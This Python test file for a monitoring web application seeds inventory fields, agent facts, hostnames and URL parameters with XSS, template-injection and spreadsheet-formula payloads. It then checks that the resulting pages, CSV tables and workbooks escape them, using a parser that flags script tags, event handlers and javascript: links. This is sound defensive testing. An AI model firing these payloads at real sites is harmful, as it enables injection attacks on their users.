"""Payloads in every text of an inventory and of agents, through every page, table and workbook.

The pages are those of `collector.pages.rules`: one that is added is looked at here as well.
"""

import csv
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from io import BytesIO, StringIO
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import openpyxl
import pytest
import yaml

from collector.accounts.viewer import COOKIE
from collector.maintenance import changes as plan
from collector.maintenance.records import Announced, Candidate, Match, Planned
from collector.pages.rules import RULES
from collector.siting import Siting
from collector.store import Store, open_store
from collector.store.enrolment import enrol_by_token
from collector.store.machine_facts import Told, save_told
from collector.store.tokens import create
from collector.verdict.outages.derive import Draft
from collector.verdict.outages.records import Phase
from collector.verdict.spans import SpanKind
from govnet.enrolment import EnrolRequest
from inventory.load import load
from tests.accounts import TWO_COMMUNES, people, signed_in
from tests.scenarios.centre import Centre, Clock

NOW = 1_790_000_000.0
SCRIPT = "\"><script>alert(1)</script><img src=x onerror=alert(1)>'{{7*7}}"
EVIL = f'=HYPERLINK("http://x.example/?"&A1;"a"){SCRIPT}'
TEXTS = {"name", "title", "operator", "role", "holder", "address_text", "model", "note", "source"}
"""Keys of the inventory below which anything may be written; a contact is added to each site."""
ASKED = {"site": "don", "unit": "xa-don", "id": "hop-tinh", "token": "none", "alert": "GovnetEvent"}
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n")
PATHS = sorted(
    path for method, path in RULES if method == "GET" and path not in {"/events", "/room/{token}"}
)


def poisoned(value: Any, key: str = "", *, below: str = "") -> Any:
    """Return an inventory's value with a payload in every text that is free."""
    if isinstance(value, dict):
        return {name: poisoned(one, name, below=key or below) for name, one in value.items()}
    if isinstance(value, list):
        return [poisoned(one, below=key or below) for one in value]
    return f"{EVIL} {value}" if key in TEXTS and below != "machines" else value


def inventory_text() -> str:
    whole = yaml.load(TWO_COMMUNES, Loader=yaml.BaseLoader)  # noqa: S506 - all texts, no objects
    for site in whole["sites"]:
        site["contacts"] = [{"role": "Trực", "telephone": "0900 000 001", "email": "a@b.example"}]
        site["postal_address"] = EVIL
    text = yaml.safe_dump(poisoned(whole), allow_unicode=True, default_style='"')
    return re.sub(r': "(\d+|true|false)"', r": \1", text).replace('"code": 68', '"code": "68"')


def known(store: Store, file: Path) -> None:
    """Let agents and people write what they may: facts, host names, reasons, areas."""
    save_told(
        store,
        [
            Told(f"{site}/pc-1", "a", NOW, {"os.name": EVIL, "hardware.model": EVIL})
            for site in ("don", "duc")
        ],
    )
    _, secret = create(store, None, 1, NOW, 3600.0)
    request = EnrolRequest(secret=secret, key="0b" * 32, hostname=EVIL)
    enrol_by_token(store, Siting(load(file)), request, "192.0.2.1", NOW)
    plan.add(store, [Planned(item="don/cpe", start=NOW, end=NOW + 900.0, reason=EVIL)], NOW)
    announced = Announced(area=EVIL, start=NOW + 60.0, end=NOW + 90.0, reason=EVIL)
    plan.propose(store, [(announced, [Candidate("don", Match.UNIT)])], f"{EVIL}.csv", NOW)


@pytest.fixture(scope="module")
def centre(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Centre]:
    file = tmp_path_factory.mktemp("province") / "inventory.yaml"
    file.write_text(inventory_text(), encoding="utf-8")
    made = Centre(file, None, Clock(NOW))
    try:
        made.enrol(load(file))
        made.start()
        made.work()
        collector = made._collector
        assert collector is not None
        book = collector._live.judgement.record.book
        for item in ("don", "duc", "don/tslcd"):
            kind = SpanKind.LINK if "/" in item else SpanKind.SITE
            phase = Phase(NOW - 900.0, None, "power")
            draft = Draft(item, item.partition("/")[0], kind, NOW - 900.0, None, (phase,))
            book.take(item, [draft], now=NOW)
        store = open_store(made.data)
        try:
            known(store, file)
        finally:
            store.close()
        made.work()
        yield made
    finally:
        made.close()


@pytest.fixture(scope="module")
def admin(centre: Centre) -> dict[str, str]:
    store = open_store(centre.data)
    try:
        cookie = signed_in(store, "quan-tri", people()["quan-tri"], NOW)
    finally:
        store.close()
    headers = {"Cookie": f"{COOKIE}={cookie}"}
    form = headers | {
        "Sec-Fetch-Site": "same-origin",
        "Content-Type": "application/x-www-form-urlencoded",
    }
    for said in ({"action": "say", "number": "1", "note": EVIL, "ticket": EVIL[:90]},):
        assert centre.request("POST", "/", form, urlencode(said).encode())[0] == 303
    return headers


class Parts(HTMLParser):
    """What a browser makes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        is_ours = tag != "script" or (given.get("src") or "").startswith("/static/")
        if tag in {"img", "iframe", "object", "base"} or not is_ours:
            self.bad.append(tag)
        for name, value in attrs:
            is_link = name in {"href", "src", "action", "formaction", "xlink:href"}
            scheme = (value or "").strip().partition(":")[0].lower()
            is_foreign = is_link and scheme in {"javascript", "data", "vbscript"}
            if name.startswith("on") or name == "style" or is_foreign:
                self.bad.append(f"{tag} {name}={value}")


def nothing_runs(content_type: str, body: bytes) -> None:
    if content_type.startswith("text/html"):
        parts = Parts()
        parts.feed(body.decode())
        assert parts.bad == []
        assert "49" not in re.findall(r"'(\d+)", body.decode()), "a template ran a text"
    elif content_type.startswith("text/csv"):
        rows = csv.reader(StringIO(body.decode("utf-8-sig")), delimiter=";")
        cells = [cell for row in rows for cell in row]
        assert [cell for cell in cells if cell.startswith(FORMULA) and cell != "-"] == []
    else:
        for sheet in openpyxl.load_workbook(BytesIO(body)):
            written = [cell for row in sheet.iter_rows() for cell in row]
            assert [cell.coordinate for cell in written if cell.data_type == "f"] == []


@pytest.mark.parametrize("path", PATHS)
def test_no_text_does_anything_in_a_page_a_table_or_a_workbook(
    centre: Centre, admin: dict[str, str], path: str
) -> None:
    opened = re.sub(r"\{(\w+)\}", lambda part: ASKED[part[1]], path)
    evil = {"q": EVIL, "since": EVIL, "state": EVIL, "point": EVIL, "done": EVIL, "carrier": EVIL}
    for asked in (opened, f"{opened}?{urlencode(evil)}", f"{opened}?point=don/vc&pcs=1&w=1"):
        status, headers, body = centre.request("GET", asked, admin, b"")

        assert status == 200, (asked, body.decode("utf-8", "replace"))
        nothing_runs({name.lower(): one for name, one in headers.items()}["content-type"], body)


def test_the_texts_are_there_at_all(centre: Centre, admin: dict[str, str]) -> None:
    for path in (
        "/",
        "/units",
        "/sites/don",
        "/conferences",
        "/maintenance",
        "/differences",
        "/coverage",
        "/inventory",
        "/log",
        "/admin",
    ):
        assert "&lt;script&gt;alert(1)" in centre.request("GET", path, admin, b"")[2].decode(), path
